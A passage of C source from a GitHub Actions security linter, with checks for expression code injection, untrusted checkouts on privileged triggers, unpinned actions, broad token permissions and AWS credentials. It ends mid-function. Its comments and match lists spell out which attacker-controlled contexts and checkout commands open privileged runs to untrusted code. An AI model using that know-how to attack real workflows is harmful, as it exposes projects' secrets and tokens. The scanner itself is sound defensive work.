/* gha_security.c — the workflow security checks users know from zizmor and actionlint: code
 * injection through expressions, untrusted checkouts on privileged triggers, unpinned actions,
 * token permissions, AWS credentials, secrets written into the file. */
#include <ctype.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "gha_util.h"
#include "infralint/arena.h"
#include "infralint/strbuf.h"
#include "infralint/util.h"
#include "rules.h"

/* ---- gha/template-injection ---- */

struct inject {
    struct rule_ctx *ctx;
    const struct workflow *wf;
    const struct wf_job *job;
    const struct wf_step *step;
    struct arena *a; /* parsed expressions, for the whole check */
    int pr_only;     /* only pull_request starts the workflow */
};

/* Is pull_request the workflow's only trigger? Its attacker is the pull request's author, who
 * can change the workflow in the pull request anyway: from a fork the run gets a read-only token
 * and no secrets, from the repository's own branches its author has write access. */
static int pull_request_only(const struct workflow *wf)
{
    for (size_t i = 0; i < wf->ntriggers; i++)
        if (strcmp(wf->triggers[i].event, "pull_request"))
            return 0;
    return wf->ntriggers > 0 && !wf->is_action;
}

enum { TAINT_NONE = 0, TAINT_INPUT, TAINT_ATTACKER };

/* How bad is context path: attacker-controlled (an issue title, a head branch), a free-text
 * workflow_dispatch input (typed by someone with write access), or neither? */
static int taint_of(const char *path, void *arg)
{
    struct inject *in = arg;
    size_t n;
    const char *const *pats = rule_opt_list(in->ctx, "untrusted_contexts", &n);
    for (size_t i = 0; i < n; i++)
        if (wfx_path_match(pats[i], path))
            return TAINT_ATTACKER;
    const char *name = NULL;
    if (!strncasecmp(path, "inputs.", 7))
        name = path + 7;
    else if (!strncasecmp(path, "github.event.inputs.", 20))
        name = path + 20;
    if (name && in->wf->is_action) /* whatever the calling workflow passes: low confidence */
        return rule_persona(in->ctx) >= PERSONA_AUDITOR ? TAINT_INPUT : TAINT_NONE;
    if (name && rule_opt_bool(in->ctx, "dispatch_inputs")) {
        /* free text typed into the "Run workflow" form (choices, booleans, numbers are safe) */
        const struct wf_trigger *t = wf_trigger_by_event(in->wf, "workflow_dispatch");
        /* whoever can dispatch can push a workflow that runs any code with the repository's
         * secrets: the input adds a way in only to a job of an `environment:`, whose secrets
         * and protection rules a pushed branch does not get */
        int gated = in->job && in->job->environment.n;
        if (!gated && rule_persona(in->ctx) < PERSONA_PEDANTIC)
            return TAINT_NONE;
        for (size_t i = 0; t && i < t->ninputs; i++)
            if (!strcasecmp(t->inputs[i].name, name))
                return !strcmp(t->inputs[i].type, "string") ? TAINT_INPUT : TAINT_NONE;
    }
    return TAINT_NONE;
}

/* Does trace k carry the same value, the same way, as trace i (or, with i == k, as one before)? */
static int same_taint(const struct gha_trace *tr, size_t k, size_t i)
{
    for (size_t m = i == k ? 0 : i; m < (i == k ? k : i + 1); m++)
        if (tr[m].level && tr[m].level == tr[k].level && !strcmp(tr[m].found, tr[k].found) &&
            (tr[m].via_ref == tr[k].via_ref ||
             (tr[m].via_ref && tr[k].via_ref && !strcmp(tr[m].via_ref, tr[k].via_ref))))
            return 1;
    return 0;
}

/* Report each `${{ }}` of node that expands an attacker-controlled value into code: judged on
 * every operand that can become its value (`inputs.x || env.HEAD` is as bad as its worst), and
 * through env:, step outputs and job outputs that carry one. */
static void check_code(struct inject *in, struct yref code, struct yref key, const char *what,
                       int js)
{
    const struct wf_expr *ex;
    size_t n = wf_exprs(in->wf, code.n, &ex);
    struct gha_trace *tr = xcalloc(n + 1, sizeof(*tr));
    for (size_t i = 0; i < n; i++) {
        struct gha_trace t0 = {in->wf, in->a, 1, taint_of, in, 0, NULL, NULL, NULL, NULL, NULL};
        tr[i] = t0;
        if (ex[i].x)
            gha_trace_expr(&tr[i], in->job, in->step, ex[i].x);
    }
    for (size_t i = 0; i < n; i++) {
        const struct gha_trace t = tr[i];
        if (!t.level || same_taint(tr, i, i))
            continue;
        char *path = gha_path(in->job, in->step, js ? "with.script" : "run");
        unsigned kl = key.n ? key.n->line : 0;
        /* free text typed by someone with write access is a lesser risk than data from
         * anyone who can open an issue */
        int input = t.level == TAINT_INPUT;
        /* what a pull request carries (its head branch, title, body) reaches a privileged run
         * only through pull_request_target: under pull_request its author, who could edit the
         * workflow in the pull request anyway, is the only one who sets it */
        int pr_data = (starts_with(t.found, "github.head_ref") ||
                       starts_with(t.found, "github.event.pull_request.")) &&
                      !in->wf->is_action && !wf_trigger_by_event(in->wf, "pull_request_target");
        enum severity sev = input || in->pr_only || pr_data ? SEV_WARNING : SEV_NONE;
        const char *who = !input              ? "attacker-controlled"
                          : in->wf->is_action ? "the action's input"
                                              : "free-text input";
        const char *tx = ex[i].text;
        size_t tl = ex[i].len;
        while (tl && isspace((unsigned char)*tx))
            tx++, tl--;
        while (tl && isspace((unsigned char)tx[tl - 1]))
            tl--;
        int env = t.via_ref && starts_with(t.via_ref, "env.");
        char *fix = env ? xstrfmt("the value is in the environment already: use %s%s%s instead "
                                  "of ${{ env.%s }}",
                                  js ? "process.env." : "\"$", t.via, js ? "" : "\"", t.via)
                        : xstrfmt("pass it through env: (VALUE: ${{ %.*s }}) and use %s in the "
                                  "script",
                                  (int)tl, tx, js ? "process.env.VALUE" : "\"$VALUE\"");
        if (t.via_ref) {
            char *holder = env ? xstrfmt("env '%s'", t.via)
                               : xstrfmt("the output of %s '%s'",
                                         starts_with(t.via_ref, "steps.") ? "step" : "job", t.via);
            gha_report_pos(in->ctx, sev, in->wf, ex[i].line, ex[i].col, kl, code.via, in->job->id,
                           path, fix,
                           "%s holds %s '%s', and ${{ %s }} expands it into %s before it runs "
                           "(code injection)",
                           holder, who, t.found, t.via_ref, what);
            free(holder);
        } else
            gha_report_pos(in->ctx, sev, in->wf, ex[i].line, ex[i].col, kl, code.via, in->job->id,
                           path, fix, "%s '%s' is expanded into %s before it runs (code injection)",
                           who, t.found, what);
        /* the same value expanded again in this script: one fix, one finding */
        for (size_t k = i + 1; k < n; k++)
            if (tr[k].level && same_taint(tr, k, i)) {
                struct anchor a = {in->wf->file, ex[k].line, ex[k].col, 0, in->job->id, path};
                rule_related(in->ctx, &a, "expanded here too");
            }
        free(fix);
        free(path);
    }
    free(tr);
}

static void check_injection(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    struct arena *a = arena_new();
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            struct inject in = {ctx, wf, j, st, a, pull_request_only(wf)};
            if (st->run)
                check_code(&in, st->run_at, yref_key(st->node, "run"), "the run: script", 0);
            else if (gha_uses_is(st->uses, "actions/github-script"))
                check_code(&in, yref_get(st->with, "script"), yref_key(st->with, "script"),
                           "the github-script code", 1);
        }
    }
    arena_free(a);
}

/* ---- gha/dangerous-trigger ---- */

static const char *const head_refs[] = {"github.event.pull_request.head.sha",
                                        "github.event.pull_request.head.ref",
                                        "github.event.pull_request.head.repo.full_name",
                                        "github.head_ref",
                                        "github.event.pull_request.merge_commit_sha",
                                        "github.event.pull_request.number",
                                        "github.event.workflow_run.head_sha",
                                        "github.event.workflow_run.head_branch",
                                        "github.event.workflow_run.head_repository.full_name",
                                        "github.event.workflow_run.pull_requests.*.head.sha",
                                        "github.event.workflow_run.pull_requests.*.head.ref"};

static int head_ref(const char *path, void *arg)
{
    (void)arg;
    for (size_t i = 0; i < ARRAY_SIZE(head_refs); i++)
        if (wfx_path_match(head_refs[i], path))
            return 1;
    return 0;
}

/* The head expression a value names ("github.event.pull_request.head.sha"), directly or
 * through env:, a step's or a job's outputs (`ref: ${{ needs.pr.outputs.sha }}`), or NULL. The
 * value is read in job j, step st. */
static const char *names_head(const struct workflow *wf, const struct wf_job *j,
                              const struct wf_step *st, const char *v, struct arena *a)
{
    if (!v)
        return NULL;
    struct gha_trace t = {wf, a, 0, head_ref, NULL, 0, NULL, NULL, NULL, NULL, NULL};
    gha_trace_scalar(&t, j, st, v);
    if (t.found && t.via_ref) {
        char *both = xstrfmt("%s, through %s", t.found, t.via_ref);
        const char *kept = arena_strdup(a, both);
        free(both);
        return kept;
    }
    if (t.found)
        return t.found;
    return str_find(v, "refs/pull/") ? "refs/pull/…" : NULL;
}

static int checkout_cmd(const char *run)
{
    return str_find(run, "gh pr checkout") || str_find(run, "git checkout") ||
           str_find(run, "git fetch") || str_find(run, "git switch") || str_find(run, "git pull");
}

/* The place in job j that checks out the untrusted head, or an empty ref. */
static struct yref head_checkout(const struct workflow *wf, const struct wf_job *j,
                                 const char **what, struct arena *a)
{
    struct yref none = {NULL, NULL};
    for (size_t k = 0; k < j->nsteps; k++) {
        const struct wf_step *st = &j->steps[k];
        if (gha_uses_is(st->uses, "actions/checkout")) {
            struct yref ref = yref_get(st->with, "ref"), repo = yref_get(st->with, "repository");
            if ((*what = names_head(wf, j, st, yref_str(ref), a)))
                return ref;
            if ((*what = names_head(wf, j, st, yref_str(repo), a)))
                return repo;
        } else if (st->run && checkout_cmd(st->run) &&
                   (*what = names_head(wf, j, st, st->run, a))) {
            return st->run_at;
        } else if (st->run && str_find(st->run, "gh pr checkout")) {
            *what = "gh pr checkout";
            return st->run_at;
        }
    }
    return none;
}

static void check_dangerous(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    static const char *const events[] = {"pull_request_target", "workflow_run"};
    struct arena *a = arena_new();
    for (size_t e = 0; e < ARRAY_SIZE(events); e++) {
        const struct wf_trigger *t = wf_trigger_by_event(wf, events[e]);
        if (!t)
            continue;
        struct gha_scene sc[8];
        size_t nsc = gha_trigger_scenes(t, NULL, 0, sc, 8);
        unsigned char *hit = xcalloc(wf->njobs + 1, 1), *one = xcalloc(wf->njobs + 1, 1);
        for (size_t k = 0; k < nsc; k++) {
            gha_reachable_jobs(wf, &sc[k], one);
            for (size_t i = 0; i < wf->njobs; i++)
                hit[i] |= one[i];
        }
        for (size_t i = 0; i < wf->njobs; i++) {
            const struct wf_job *j = &wf->jobs[i];
            const char *what = NULL;
            struct yref at = hit[i] ? head_checkout(wf, j, &what, a) : (struct yref){NULL, NULL};
            if (!at.n)
                continue;
            /* a token the file shows to be read-only is not called a write token */
            const struct wf_perms *p = gha_job_perms(wf, j);
            int ro = p && (p->form == PERMS_READ_ALL || p->form == PERMS_MAP);
            for (size_t q = 0; ro && p->form == PERMS_MAP && q < p->n; q++)
                ro = p->v[q].level != PERM_WRITE;
            gha_report(ctx, wf, at, j->id, NULL,
                       "check out the base (the default), or move the work on untrusted code to "
                       "an unprivileged 'pull_request' workflow and pass results as artifacts",
                       "on '%s', job '%s' checks out untrusted code (%s): it then runs with the "
                       "base repository's secrets%s",
                       t->event, j->id, what, ro ? "" : " and a write token");
        }
        free(hit);
        free(one);
    }
    arena_free(a);
}

/* ---- gha/unpinned-action ---- */

static int hex40(const char *s)
{
    size_t n = 0;
    while (isxdigit((unsigned char)s[n]))
        n++;
    return n == 40 && !s[n];
}

/* Is ref a release version (v4, v2.1.0, 1.2, v1.x, v3-beta)? Those move only when their
 * repository moves them; a branch (main, stable, latest) moves with every push. */
static int version_like(const char *ref)
{
    const char *p = ref + (*ref == 'v' || *ref == 'V');
    if (!isdigit((unsigned char)*p))
        return 0;
    while (isdigit((unsigned char)*p) || *p == '.' || ((*p == 'x' || *p == 'X') && p[-1] == '.'))
        p++;
    return !*p || *p == '-' || *p == '+';
}

/* The name of the first secret other than GITHUB_TOKEN read by an expression of wf whose scalar
 * starts in the byte span [from, to), or for an action (which has no secrets), the first input
 * named like a credential; into buf. The expression, or NULL when there is none. */
static const struct wf_expr *secret_in_span(const struct workflow *wf, size_t from, size_t to,
                                            char *buf, size_t size)
{
    const char *ctx_name = wf->is_action ? "inputs." : "secrets.";
    size_t cl = strlen(ctx_name);
    for (size_t i = wf_expr_index(wf, from); i < wf->nexprs && wf->exprs[i].node->start < to; i++) {
        const struct wf_expr *e = &wf->exprs[i];
        for (size_t k = 0; k + cl < e->len; k++) {
            if (strncmp(e->text + k, ctx_name, cl) ||
                (k && (isalnum((unsigned char)e->text[k - 1]) || e->text[k - 1] == '_' ||
                       e->text[k - 1] == '.')))
                continue;
            const char *name = e->text + k + cl;
            size_t nl = 0;
            while (k + cl + nl < e->len &&
                   (isalnum((unsigned char)name[nl]) || name[nl] == '_' || name[nl] == '-'))
                nl++;
            if (!nl || nl >= size || (nl == 12 && !strncasecmp(name, "GITHUB_TOKEN", 12)))
                continue;
            snprintf(buf, size, "%.*s", (int)nl, name);
            if (!wf->is_action || wf_is_credential_key(buf))
                return e;
        }
    }
    return NULL;
}

/* What a job holds that an action it runs could take, and where the file says so. */
struct holding {
    char what[192];
    unsigned line, col;
};

static void hold_at(struct holding *h, struct yref at)
{
    h->line = yref_line(at);
    h->col = yref_col(at);
}

/* What job j holds that an action it runs could take: an environment's secrets, write scopes
 * or an OIDC token, the secrets and token of a privileged trigger, or a secret it reads (for an
 * action: an input named like a credential). 0 when the file shows none (a job on the default
 * token: what that can do is a repository setting). */
static int job_holds(const struct workflow *wf, const struct wf_job *j, struct holding *h)
{
    char name[128];
    const struct wf_perms *p = gha_job_perms(wf, j);
    const struct wf_perm_entry *w = NULL;
    const struct wf_trigger *t = wf_trigger_by_event(wf, "pull_request_target");
    if (!t)
        t = wf_trigger_by_event(wf, "workflow_run");
    const struct wf_expr *e;
    for (size_t i = 0; p && p->form == PERMS_MAP && i < p->n; i++)
        if (p->v[i].level == PERM_WRITE && (!w || !strcmp(p->v[i].scope, "id-token")))
            w = &p->v[i];
    if (j->env_name) {
        snprintf(h->what, sizeof(h->what), "the secrets of environment '%s'", j->env_name);
        hold_at(h, j->env_name_at);
    } else if (p && p->form == PERMS_WRITE_ALL) {
        snprintf(h->what, sizeof(h->what), "a 'write-all' token");
        hold_at(h, p->value);
    } else if (w) {
        snprintf(h->what, sizeof(h->what), "'%s: write'", w->scope);
        hold_at(h, w->value);
    } else if (j->uses && yref_str(j->secrets)) {
        snprintf(h->what, sizeof(h->what), "every secret of the repository ('secrets: inherit')");
        hold_at(h, j->secrets);
    } else if ((j->node.n &&
                (e = secret_in_span(wf, j->node.n->start, j->node.n->end, name, sizeof(name)))) ||
               (wf->env.n &&
                (e = secret_in_span(wf, wf->env.n->start, wf->env.n->end, name, sizeof(name))))) {
        snprintf(h->what, sizeof(h->what),
                 wf->is_action ? "the credential input '%s'" : "secrets.%s", name);
        h->line = e->line;
        h->col = e->col;
    } else if (t) {
        snprintf(h->what, sizeof(h->what), "the secrets and token of a %s run", t->event);
        hold_at(h, t->at);
    } else
        return 0;
    return 1;
}

/* The related location of the finding reported last: what the job holds, where it says so. */
static void held_related(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_job *j,
                         const struct holding *h)
{
    if (!h)
        return;
    struct anchor a = {wf->file, h->line, h->col, 0, j->id, NULL};
    rule_related(ctx, &a, wf->is_action ? "the action runs it with %s" : "the job runs it with %s",
                 h->what);
}

/* Report one `uses:` that is not pinned as it should be; 1 when it was reported. A release tag
 * (or an image's version tag) is supply-chain hygiene, shown from the pedantic persona on (or
 * with report_tags): it moves only when the action's repository moves it, and GitHub's default
 * code scanning suite leaves it out too. A branch, a short SHA or an untagged image moves with
 * every push: always reported. What the job holds is said as a related location. */
static int check_uses(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_job *j,
                      const struct wf_step *st, struct yref at, const char *uses)
{
    int said = 0;
    if (wf_uses_local(uses) || wf_has_expr(uses))
        return 0;
    struct holding held;
    int holding = job_holds(wf, j, &held);
    int tags = rule_persona(ctx) >= PERSONA_PEDANTIC || rule_opt_bool(ctx, "report_tags");
    char *path = gha_path(j, st, "uses");
    if (starts_with(uses, "docker://")) {
        const char *img = uses + 9, *slash = strrchr(img, '/'), *colon;
        colon = strchr(slash ? slash : img, ':');
        int tagged = colon && version_like(colon + 1);
        if (!str_find(uses, "@sha256:") && (tags || !tagged)) {
            char *fix = xstrfmt("pin the image by digest: docker://%.*s@sha256:<digest>",
                                (int)(colon ? (size_t)(colon - img) : strlen(img)), img);
            gha_report(ctx, wf, at, j->id, path, fix,
                       "image '%s' is not pinned by digest: the tag can be moved to another "
                       "image",
                       img);
            held_related(ctx, wf, j, holding ? &held : NULL);
            free(fix);
            said = 1;
        }
        free(path);
        return said;
    }
    const char *at_sign = strrchr(uses, '@');
    if (!at_sign) { /* gha/syntax says it */
        free(path);
        return said;
    }
    char name[256];
    snprintf(name, sizeof(name), "%.*s", (int)(at_sign - uses), uses);
    const char *ref = at_sign + 1;
    if (rule_opt_list_has(ctx, "tag_actions", name, 1)) {
        /* verified by the tag it runs from (SLSA's generator checks its own ref): a SHA breaks
         * it, a tag is what its documentation asks for */
        if (hex40(ref)) {
            gha_report(ctx, wf, at, j->id, path,
                       "reference it by its release tag (e.g. @v2.1.0), as its documentation "
                       "asks",
                       "'%s' is pinned to a commit, but it must run from a release tag: it "
                       "verifies its own ref, and fails on a SHA",
                       name);
            said = 1;
        }
        free(path);
        return said;
    }
    /* first party: an action of the repository's own owner (its own organisation) */
    size_t ol = wf->owner ? strlen(wf->owner) : 0;
    int own = ol && rule_opt_bool(ctx, "trust_own_owner") && !strncasecmp(name, wf->owner, ol) &&
              name[ol] == '/';
    size_t hex = strspn(ref, "0123456789abcdef");
    int short_sha = hex >= 7 && !ref[hex];
    if (!hex40(ref) && !own && !rule_opt_list_has(ctx, "trusted_actions", name, 1) &&
        (tags || short_sha || !version_like(ref))) {
        char *fix = xstrfmt("pin it: %s@<40-hex commit SHA> # %s", name, ref);
        if (short_sha)
            gha_report(ctx, wf, at, j->id, path, fix,
                       "'%s' names a short commit SHA: GitHub takes it as a branch or tag name, "
                       "which whoever can push to the repository can create",
                       uses);
        else
            gha_report(ctx, wf, at, j->id, path, fix,
                       "'%s' is not pinned to a commit: '%s' can be moved by whoever controls "
                       "the repository",
                       uses, ref);
        held_related(ctx, wf, j, holding ? &held : NULL);
        said = 1;
        free(fix);
    }
    free(path);
    return said;
}

/* One finding per action and ref: the other places that use it are related locations (pinning
 * it is one change, which Dependabot or pinact make everywhere at once). */
static void check_unpinned(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    struct use {
        const struct wf_job *j;
        const struct wf_step *st;
        struct yref at;
        const char *uses;
    } *v = NULL;
    size_t n = 0, alloc = 0;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        if (j->uses) {
            ALLOC_GROW(v, n + 1, alloc);
            v[n++] = (struct use){j, NULL, j->uses_at, j->uses};
        }
        for (size_t k = 0; k < j->nsteps; k++)
            if (j->steps[k].uses) {
                ALLOC_GROW(v, n + 1, alloc);
                v[n++] = (struct use){j, &j->steps[k], j->steps[k].uses_at, j->steps[k].uses};
            }
    }
    unsigned char *said = xcalloc(n + 1, 1);
    for (size_t i = 0; i < n; i++) {
        int seen = 0; /* reported at an earlier place */
        for (size_t k = 0; k < i && !seen; k++)
            seen = said[k] && !strcmp(v[k].uses, v[i].uses);
        if (seen ||
            !(said[i] = (unsigned char)check_uses(ctx, wf, v[i].j, v[i].st, v[i].at, v[i].uses)))
            continue;
        for (size_t k = 0; k < n; k++) {
            if (k == i || strcmp(v[k].uses, v[i].uses))
                continue;
            char *path = gha_path(v[k].j, v[k].st, "uses");
            struct anchor a = {wf->file, yref_line(v[k].at), yref_col(v[k].at),
                               0,        v[k].j->id,         path};
            rule_related(ctx, &a, "'%s' is used here too", v[k].uses);
            free(path);
        }
    }
    free(said);
    free(v);
}

/* ---- gha/excessive-permissions ---- */

/* Words in a run script (or a with/env value) that show it may use the token or OIDC. */
/* ("token" covers github_token, github.token and actions_id_token.) */
static const char *const token_words[] = {"token", "api.github.com", "ghcr.io"};

static int mentions_token(const char *s)
{
    if (!s)
        return 0;
    for (size_t i = 0; i < ARRAY_SIZE(token_words); i++)
        if (str_find_case(s, token_words[i]))
            return 1;
    return 0;
}

static void quiet_command(char *const *w, size_t n, void *arg)
{
    int *quiet = arg;
    if (!gha_command_is_local(w, n))
        *quiet = 0;
}

/* Is a run script made only of commands that cannot use the token? */
static int quiet_script(const char *run)
{
    int quiet = 1;
    if (mentions_token(run))
        return 0;
    gha_commands(run, quiet_command, &quiet);
    return quiet;
}

/* Does s name the job's own token (github.token, secrets.GITHUB_TOKEN)? */
static int names_default_token(const char *s)
{
    return s && (str_find_case(s, "github.token") || str_find_case(s, "secrets.GITHUB_TOKEN"));
}

static int map_names_default_token(struct yref m)
{
    for (size_t i = 0; yref_is_map(m) && i < m.n->npairs; i++)
        if (names_default_token(yref_str(yref_pair_value(m, i))))
            return 1;
    return 0;
}

/* Does a step hand its action a token of its own (`token: ${{ secrets.BOT_TOKEN }}`, `env:
 * GITHUB_TOKEN: ${{ secrets.PAT }}`): a key named like a token set from another secret? */
static int brings_own_token(const struct wf_step *st)
{
    struct yref maps[2] = {st->with, st->env};
    for (size_t m = 0; m < 2; m++)
        for (size_t i = 0; yref_is_map(maps[m]) && i < maps[m].n->npairs; i++) {
            const char *k = yref_str(yref_pair_key(maps[m], i));
            const char *v = yref_str(yref_pair_value(maps[m], i));
            if (k && v && str_find_case(k, "token") && str_find(v, "secrets.") &&
                !names_default_token(v))
                return 1;
        }
    return 0;
}

/* Can we be sure job j writes nothing with its own token and requests no OIDC token? A step
 * reaches that token only when it is named (github.token, secrets.GITHUB_TOKEN), through an
 * action (most default an input to it) that is not a known set-up action nor given a token of
 * its own, or — for a script — through the credentials an earlier actions/checkout left in
 * .git/config (unless persist-credentials: false, or it checked out with another token). A
 * script alone has no token (`gh` needs GH_TOKEN, the API a header), but with oidc (the scope
 * asked about is id-token) any script can request an OIDC token. */
static int needs_no_write(const struct workflow *wf, const struct wf_job *j, int oidc)
{
    if (j->uses || map_names_default_token(j->env) || map_names_default_token(wf->env))
        return 0;
    int persisted = 0; /* a checkout left the token in .git/config */
    for (size_t k = 0; k < j->nsteps; k++) {
        const struct wf_step *st = &j->steps[k];
        if (map_names_default_token(st->env) || map_names_default_token(st->with) ||
            names_default_token(st->run))
            return 0;
        if (gha_uses_is(st->uses, "actions/checkout")) {
            int b = 1;
            struct yref pc = yref_get(st->with, "persist-credentials");
            if (pc.n && !ynode_bool(pc.n, &b) && !b)
                continue;
            persisted |= !brings_own_token(st);
            continue;
        }
        if (st->run && (persisted || oidc) && !quiet_script(st->run))
            return 0; /* an OIDC token any script can request (ACTIONS_ID_TOKEN_REQUEST_*) */
        if (st->uses && !gha_action_is_setup(st->uses) && !brings_own_token(st))
            return 0;
    }
    return j->nsteps > 0;
}

/* Is the job's permission set given by a callee (a reusable workflow that sets its own)? */
static int callee_sets_perms(const struct wf_job *j)
{
    const struct workflow *c = j->callee;
    if (!c)
        return 0;
    if (c->perms.form != PERMS_ABSENT)
        return 1;
    for (size_t i = 0; i < c->njobs; i++)
        if (c->jobs[i].perms.form == PERMS_ABSENT)
            return 0;
    return c->njobs > 0;
}

/* 'scope: write' entries of one permissions map granted to jobs that never write: one finding
 * per set of such jobs (the scopes one `permissions:` gives them are one cause), at the first
 * scope's value, the other scopes as related locations. */
static void write_scopes(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_perms *p,
                         const struct wf_job *only)
{
    struct idle_scope {
        const struct wf_perm_entry *x;
        char *jobs; /* "'a', 'b'" */
        size_t njobs;
        int done;
    } *v = xcalloc(p->form == PERMS_MAP ? p->n + 1 : 1, sizeof(*v));
    size_t nv = 0;
    for (size_t e = 0; p->form == PERMS_MAP && e < p->n; e++) {
        const struct wf_perm_entry *x = &p->v[e];
        if (x->level != PERM_WRITE)
            continue;
        struct strbuf idle = STRBUF_INIT;
        size_t nidle = 0;
        for (size_t i = 0; i < wf->njobs; i++) {
            const struct wf_job *j = &wf->jobs[i];
            if ((only && j != only) || (!only && j->perms.form != PERMS_ABSENT))
                continue;
            if (needs_no_write(wf, j, !strcmp(x->scope, "id-token")))
                strbuf_addf(&idle, "%s'%s'", nidle++ ? ", " : "", j->id);
        }
        if (nidle)
            v[nv++] = (struct idle_scope){x, strbuf_detach(&idle), nidle, 0};
        else
            strbuf_release(&idle);
    }
    for (size_t a = 0; a < nv; a++) {
        if (v[a].done)
            continue;
        struct strbuf scopes = STRBUF_INIT;
        size_t ns = 0;
        for (size_t b = a; b < nv; b++)
            if (!v[b].done && !strcmp(v[b].jobs, v[a].jobs)) {
                strbuf_addf(&scopes, "%s'%s: write'", ns++ ? ", " : "", v[b].x->scope);
                v[b].done = b > a ? 2 : 1;
            }
        char *fix = ns > 1 ? xstrfmt("remove these write scopes%s",
                                     only ? "" : ", and grant them on the jobs that need them")
                           : xstrfmt("remove '%s: write'%s", v[a].x->scope,
                                     only ? "" : ", and grant it on the jobs that need it");
        int many = v[a].njobs > 1;
        gha_report(ctx, wf, v[a].x->value, only ? only->id : NULL, NULL, fix,
                   "%s %s granted to job%s %s, which never write%s with the token", scopes.buf,
                   ns > 1 ? "are" : "is", many ? "s" : "", v[a].jobs, many ? "" : "s");
        for (size_t b = a + 1; b < nv; b++)
            if (v[b].done == 2) {
                struct anchor at = {wf->file, yref_line(v[b].x->value), yref_col(v[b].x->value),
                                    0,        only ? only->id : NULL,   NULL};
                rule_related(ctx, &at, "'%s: write' granted here", v[b].x->scope);
                v[b].done = 1;
            }
        free(fix);
        strbuf_release(&scopes);
    }
    for (size_t a = 0; a < nv; a++)
        free(v[a].jobs);
    free(v);
}

static void write_all(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_perms *p,
                      const char *loc)
{
    if (p->form == PERMS_WRITE_ALL)
        gha_report(ctx, wf, p->value, loc, NULL,
                   "list only the scopes the jobs need (e.g. contents: read, "
                   "pull-requests: write)",
                   "'write-all' gives the token write access to every scope");
}

/* Does an event anyone on GitHub can cause start wf, with the repository's own token (not a
 * fork's read-only one): pull_request_target, workflow_run, issues, issue and discussion
 * comments? */
static int outsider_trigger(const struct workflow *wf)
{
    static const char *const events[] = {
        "pull_request_target", "workflow_run", "issues",
        "issue_comment",       "discussion",   "discussion_comment"};
    for (size_t i = 0; i < ARRAY_SIZE(events); i++)
        if (wf_trigger_by_event(wf, events[i]))
            return 1;
    return 0;
}

static void check_permissions(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    write_all(ctx, wf, &wf->perms, NULL);
    write_scopes(ctx, wf, &wf->perms, NULL);
    /* jobs on the default token: one cause (no permissions: at the top), one finding */
    const struct wf_job *first = NULL;
    struct strbuf names = STRBUF_INIT;
    size_t n = 0;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        write_all(ctx, wf, &j->perms, j->id);
        write_scopes(ctx, wf, &j->perms, j);
        if (gha_job_perms(wf, j) || gha_only_called(wf) || callee_sets_perms(j))
            continue;
        if (j->uses && !j->callee && !wf_uses_local(j->uses)) {
            gha_unverifiable(ctx, wf, j->uses_at, j->id,
                             "set 'permissions:' on this job: the called workflow gets no more",
                             "job '%s' calls a reusable workflow of another repository with the "
                             "default token permissions: infralint cannot read it, so its "
                             "permissions, environments and tests are not checked",
                             j->id);
            continue;
        }
        /* a job whose steps cannot use the token (set-up actions, local commands), or one that
         * no outsider can start: hygiene (what the default token can do is a repository
         * setting) */
        if (rule_persona(ctx) < PERSONA_PEDANTIC &&
            (needs_no_write(wf, j, 0) ||
             (!outsider_trigger(wf) && !rule_opt_bool(ctx, "report_default_token"))))
            continue;
        if (!first)
            first = j;
        strbuf_addf(&names, "%s'%s'", n++ ? ", " : "", j->id);
    }
    if (first)
        gha_report(ctx, wf, first->key, first->id, NULL,
                   "add 'permissions: {contents: read}' at the top of the workflow, and the "
                   "write scopes on the jobs that need them",
                   "job%s %s run%s with the repository's default token permissions (no "
                   "'permissions:' on %s or at the top), which can be write access to everything",
                   n > 1 ? "s" : "", names.buf, n > 1 ? "" : "s", n > 1 ? "them" : "it");
    strbuf_release(&names);
}

/* ---- gha/aws-static-credentials, gha/oidc-permission ---- */

static int aws_creds(const struct wf_step *st)
{
    return gha_uses_is(st->uses, "aws-actions/configure-aws-credentials");
}

/* Where does a credential value come from? A secret or variable (stored: long-lived), a literal
 * (long-lived, and gha/hardcoded-credential's), or something set at run time (a step's output,
 * an env var a previous step exported: short-lived credentials from an OIDC role). env.X is
 * followed into the env: maps that set it. */
enum cred_source { CRED_RUNTIME = 0, CRED_STORED, CRED_LITERAL };

static enum cred_source cred_source(const struct wf_job *j, const struct wf_step *st,
                                    const struct workflow *wf, const char *v, int depth)
{
    if (!v || !*v)
        return CRED_RUNTIME;
    if (!wf_has_expr(v))
        return CRED_LITERAL;
    if (str_find(v, "secrets.") || str_find(v, "vars."))
        return CRED_STORED;
    const char *e = str_find(v, "env.");
    if (e && depth < 4) {
        char name[128];
        size_t n = strspn(e + 4, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_");
        if (n && n < sizeof(name)) {
            memcpy(name, e + 4, n);
            name[n] = '\0';
            struct yref maps[3] = {st ? st->env : (struct yref){NULL, NULL}, j->env, wf->env};
            for (size_t i = 0; i < 3; i++) {
                const char *x = yref_str(yref_get(maps[i], name));
                if (x)
                    return cred_source(j, st, wf, x, depth + 1);
            }
        }
    }
    return CRED_RUNTIME;
}

/* Long-lived keys handed to configure-aws-credentials: stored ones, without a session token
 * (a session token means temporary credentials, e.g. role chaining after an OIDC step). */
static void aws_action_keys(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_job *j,
                            const struct wf_step *st)
{
    struct yref key = yref_key(st->with, "aws-access-key-id");
    if (!key.n || yref_key(st->with, "aws-session-token").n)
        return;
    const char *v = yref_str(yref_get(st->with, "aws-access-key-id"));
    const char *sv = yref_str(yref_get(st->with, "aws-secret-access-key"));
